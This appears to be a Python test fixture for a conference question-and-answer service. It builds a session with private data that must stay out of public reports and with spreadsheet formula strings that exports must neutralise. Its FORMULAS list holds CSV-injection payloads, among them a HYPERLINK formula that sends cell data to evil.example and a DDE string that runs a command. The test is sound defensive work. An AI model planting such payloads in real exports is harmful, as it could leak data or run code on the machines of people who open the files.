"""A session with data that could leak from the public report, and formula cells that a
spreadsheet would run: the scripted session plus questions in every private state.

``LEAKS`` must appear nowhere in a public report; ``SHOWN`` (what the live page showed,
and the published answers) must appear in every format; ``FORMULAS`` are the texts that
start with a spreadsheet formula character.
"""

from __future__ import annotations

from typing import Any

from confsvc import scripted
from confsvc.core.agenda import Agenda
from confsvc.core.events import Command, Event, Principal
from confsvc.core.registry import RULES
from confsvc.core.roles import Role

M = scripted.MODERATOR

# Texts that start a formula; each goes on air (the public saw it) and into every CSV.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 is it minus?",
    "@SUM(1+1) what about at?",
]
PUBLISHED_FORMULA = "=1+2 published written answer"

LEAKS = [
    "Anna Jawna",  # the name of the asker of an aired question
    "Jan Tajny",  # the name of an asker of an approved, never aired question
    "Ukryty Autor",  # the asker of a pre-session question whose answer was published
    "leak@example.org",  # that asker's e-mail
    "a@olsztyn.example.org",  # the scripted pre-session e-mail
    "LEAK-APPROVED never aired",
    "LEAK-PENDING never approved",
    "LEAK-REJECTED question",
    "LEAK-REASON for rejecting",
    "LEAK-NOTE by the moderator",
    "LEAK-ORIGINAL before the edit",
    "LEAK-DEFERRED never published",
    "医护人员的防护装备是如何分配的",  # scripted: approved, deferred, answer still open
    "What was the role of volunteers",  # scripted: rejected
    "leaktag",
    "mod1",  # the moderator's invite (actors)
]

SHOWN = [
    "HYPERLINK",  # aired (escaped differently per format, so only a word of it)
    "edited after airing",  # the aired text as edited
    "How did Weifang organise testing",  # scripted: answered live
    "Jakie testy stosowano w szkołach",  # scripted: pre-session, published
    "published written answer",
]


def _do(s: scripted.Session, who: Principal, command: str, **args: Any) -> list[Event]:
    return s.append(who, RULES.decide(s.state, who, Command(name=command, args=args), s.now))


def _ask(s: scripted.Session, n: int, text: str, name: str | None = None) -> str:
    who = scripted.participant("olsztyn", 100 + n)
    args: dict[str, Any] = {"text": text, "language": "en"}
    if name:
        args["name"] = name
    return str(_do(s, who, "q.ask", **args)[0].data["id"])


def leaky_session(agenda: Agenda) -> scripted.Session:
    s = scripted.run(agenda)
    aired = []
    for n, text in enumerate(FORMULAS):
        qid = _ask(s, n, text, "Anna Jawna")
        _do(s, M, "q.approve", id=qid)
        _do(s, M, "q.on_air", id=qid)
        _do(s, M, "q.answer", id=qid)
        aired.append(qid)
    edited = _ask(s, 10, "LEAK-ORIGINAL before the edit", "Anna Jawna")
    _do(s, M, "q.approve", id=edited)
    _do(s, M, "q.note", id=edited, text="LEAK-NOTE by the moderator")
    _do(s, M, "q.tag", id=edited, tags=["leaktag"])
    _do(s, M, "q.edit", id=edited, text="A question edited after airing")
    _do(s, M, "q.on_air", id=edited)
    _do(s, M, "q.answer", id=edited)
    never = _ask(s, 11, "LEAK-APPROVED never aired", "Jan Tajny")
    _do(s, M, "q.approve", id=never)
    _ask(s, 12, "LEAK-PENDING never approved", "Jan Tajny")
    rejected = _ask(s, 13, "LEAK-REJECTED question", "Jan Tajny")
    _do(s, M, "q.reject", id=rejected, reason="LEAK-REASON for rejecting")
    deferred = _ask(s, 14, "LEAK-DEFERRED never published", "Jan Tajny")
    _do(s, M, "q.approve", id=deferred)
    _do(s, M, "q.defer", id=deferred)
    row = {
        "line": 2,
        "text": "Pre-session question whose answer is a formula",
        "language": "en",
        "asker": "Ukryty Autor",
        "site": "olsztyn",
        "email": "leak@example.org",
    }
    pre = str(_do(s, M, "q.import", rows=[row])[0].data["id"])
    expert = agenda.experts[0]
    who = Principal(role=Role.EXPERT, invite="exp1", expert=expert.id)
    _do(s, M, "written.assign", question=pre, expert=expert.id, due=s.now + 86400)
    _do(s, who, "written.answer", question=pre, text=PUBLISHED_FORMULA)
    _do(s, M, "written.review", question=pre, text=PUBLISHED_FORMULA)
    _do(s, M, "written.publish", question=pre)
    return s
